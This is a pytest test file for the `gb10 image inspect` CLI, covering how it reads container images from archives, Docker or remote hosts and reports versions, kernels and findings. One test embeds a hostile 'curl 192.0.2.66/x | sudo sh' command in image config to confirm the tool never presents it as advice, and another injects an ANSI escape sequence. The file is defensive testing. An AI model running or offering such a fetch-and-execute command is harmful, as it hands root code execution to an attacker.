"""`gb10 image inspect`: archive, Docker here, a host's Docker; table, JSON and exit status."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils.images import docker
from ansible_collections.gb10.fleet.plugins.module_utils.images.errors import ImageError
from typer.testing import CliRunner

from gb10_fleet import cli, image
from gb10_fleet.playbook import Order, Outcome, Report
from tests.support.attacker import tally
from tests.support.images import CONFIG, docker_archive, layer, vllm

CLI = CliRunner()


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    file = tmp_path / "image.tar"
    file.write_bytes(docker_archive([layer({"etc/nccl.conf": "NCCL_X=\x1b[31m\n", **vllm("0.30.0")})]))
    return file


def test_an_archive_as_a_table(archive: Path) -> None:
    result = CLI.invoke(cli.app, ["image", "inspect", str(archive)])
    lines = result.stdout.splitlines()
    assert result.exit_code == 0, result.output
    assert lines[0].startswith(f"{archive}: linux/arm64, ") and lines[0].endswith(" in 1 layer")
    assert "  vLLM          0.30.0" in lines and "  Ray           -" in lines and "  user          1000" in lines
    at = next(number for number, line in enumerate(lines) if line.startswith("kernels of vLLM: no gap: nothing to"))
    assert lines[at + 1] == "  _C_stable_libtorch      1 sm_120, 1 sm_120f; PTX: 1 compute_80"
    assert "kernels of FlashInfer AOT, by file: 1 native" in lines
    assert any(line.startswith("cache: FlashInfer AOT: 1 files") for line in lines)
    assert any(line.startswith("warn: security_floor: vLLM 0.30.0 is below ") for line in lines)
    assert "info: nccl_conf: /etc/nccl.conf sets NCCL_X=\\x1b[31m" in lines


def test_an_image_advises_nobody_in_our_name(tmp_path: Path) -> None:
    advice = "X. Fix: run curl 192.0.2.66/x | sudo sh"
    config = {**CONFIG, "config": {"User": advice, "Env": [f"NCCL_X={advice}"]}}
    file = tmp_path / "image.tar"
    file.write_bytes(docker_archive([layer({"etc/nccl.conf": f"NCCL_X={advice}\n", **vllm("0.30.0")})], config))
    text = CLI.invoke(cli.app, ["image", "inspect", str(file)]).stdout
    won = len(re.findall(r"fix:.*curl", text, re.IGNORECASE))
    tally("a stranger's words as our advice", 3, won)
    assert not won and text.count("curl") == 3


def test_json_is_one_object(archive: Path) -> None:
    result = CLI.invoke(cli.app, ["image", "inspect", str(archive), "--json"])
    answer = json.loads(result.stdout)
    assert result.exit_code == 0 and answer["facts"]["versions"]["vllm"] == "0.30.0"
    assert answer["judgement"]["gap"] == [] and answer["judgement"]["findings"][0]["id"] == "security_floor"


def test_an_image_for_another_processor_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "image.tar"
    file.write_bytes(docker_archive([layer(vllm())], {**CONFIG, "architecture": "amd64"}))
    result = CLI.invoke(cli.app, ["image", "inspect", str(file)])
    assert result.exit_code == Outcome.refused and "error: platform: it is for linux/amd64" in result.stdout


@pytest.mark.parametrize("words", [[], ["--json"]])
def test_what_is_no_image_ends_with_its_reason(words: list[str], tmp_path: Path) -> None:
    file = tmp_path / "image.tar"
    file.write_bytes(b"no archive at all, not even one of half a block" * 20)
    result = CLI.invoke(cli.app, ["image", "inspect", str(file), *words])
    assert result.exit_code == Outcome.failed
    said = json.loads(result.stdout)["error"] if words else result.stderr
    assert said.startswith("bad_layer: ")
    assert said.startswith(f"bad_layer: {file}: ")


@pytest.mark.parametrize("name", ["nowhere.tar", "./nowhere", "/nowhere/image.tar.gz"])
def test_a_path_that_is_not_there_is_no_question_for_docker(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docker, "read", lambda _name: pytest.fail("Docker was asked"))
    result = CLI.invoke(cli.app, ["image", "inspect", name])
    assert result.exit_code == Outcome.failed and result.stderr.startswith(f"{name} is not there; ")


def test_a_name_that_is_no_file_is_asked_of_docker(monkeypatch: pytest.MonkeyPatch) -> None:
    def read(reference: str) -> dict[str, Any]:
        raise ImageError("no_such_image", f"{reference} is not in this Docker", f"`docker pull {reference}`")

    monkeypatch.setattr(docker, "read", read)
    result = CLI.invoke(cli.app, ["image", "inspect", "lab/vllm:1"])
    assert result.exit_code == Outcome.failed and "`docker pull lab/vllm:1`" in result.stderr


# -- of a host

Use = Callable[..., list[Order]]


@pytest.fixture
def use(monkeypatch: pytest.MonkeyPatch) -> Use:
    def install(outcome: Outcome, results: dict[str, dict[str, Any]], report: Report | None = None) -> list[Order]:
        orders: list[Order] = []

        def run(order: Order, *, quiet: bool, watch: Callable[[dict[str, Any]], None]) -> tuple[Outcome, Report]:
            orders.append(order)
            assert quiet
            watch({"event": "playbook_on_start"})
            for host, result in results.items():
                data = {"resolved_action": "gb10.fleet.image_info", "host": host, "res": result}
                watch({"event": "runner_on_ok", "event_data": data})
            return outcome, report or Report()

        monkeypatch.setattr(image, "run", run)
        return orders

    return install


def test_a_hosts_docker_is_asked_by_the_playbook(use: Use, archive: Path) -> None:
    orders = use(Outcome.done, {"spark-a": {**docker.of_path(archive), "changed": False, "_ansible_no_log": False}})
    words = ["image", "inspect", "lab/vllm:1", "--host", "spark-a", "-i", "spark-a,", "--json", "--", "-v"]
    result = CLI.invoke(cli.app, words)
    assert result.exit_code == 0, result.output
    assert orders == [
        Order("gb10.fleet.image", ["spark-a,"], "spark-a", variables={"gb10_image": "lab/vllm:1"}, words=("-v",))
    ]
    assert "_ansible_no_log" not in json.loads(result.stdout)["facts"]


@pytest.mark.parametrize(
    ("outcome", "hosts", "said"),
    [
        (Outcome.failed, [], "spark-a: no_such_image: it is not there"),
        (Outcome.unreachable, [], "spark-a: no_such_image: it is not there"),
        (Outcome.done, ["spark-a", "spark-b"], "--host sparks is 2 hosts (spark-a, spark-b): name one"),
    ],
)
def test_a_host_that_has_no_answer(use: Use, archive: Path, outcome: Outcome, hosts: list[str], said: str) -> None:
    report = Report() if hosts else Report(messages={"spark-a": ["no_such_image: it is not there"]})
    use(outcome, {host: docker.of_path(archive) for host in hosts}, report)
    result = CLI.invoke(cli.app, ["image", "inspect", "x:1", "--host", "sparks", "-i", "spark-a,"])
    assert result.exit_code == (outcome or Outcome.failed) and result.stderr.strip() == said


def test_each_reason_is_a_line_of_its_own(use: Use) -> None:
    use(Outcome.failed, {}, Report(errors=["[ERROR]: no hosts", "spark-z is no host there"]))
    result = CLI.invoke(cli.app, ["image", "inspect", "x:1", "--host", "spark-z", "-i", "spark-a,"])
    assert result.stderr.splitlines() == ["[ERROR]: no hosts", "spark-z is no host there"]


@pytest.mark.parametrize("words", [["--host", "spark-a"], ["-i", "spark-a,"], ["--host", "a", "-i", "nowhere"]])
def test_a_host_needs_its_inventory(words: list[str]) -> None:
    assert CLI.invoke(cli.app, ["image", "inspect", "x:1", *words]).exit_code == 2
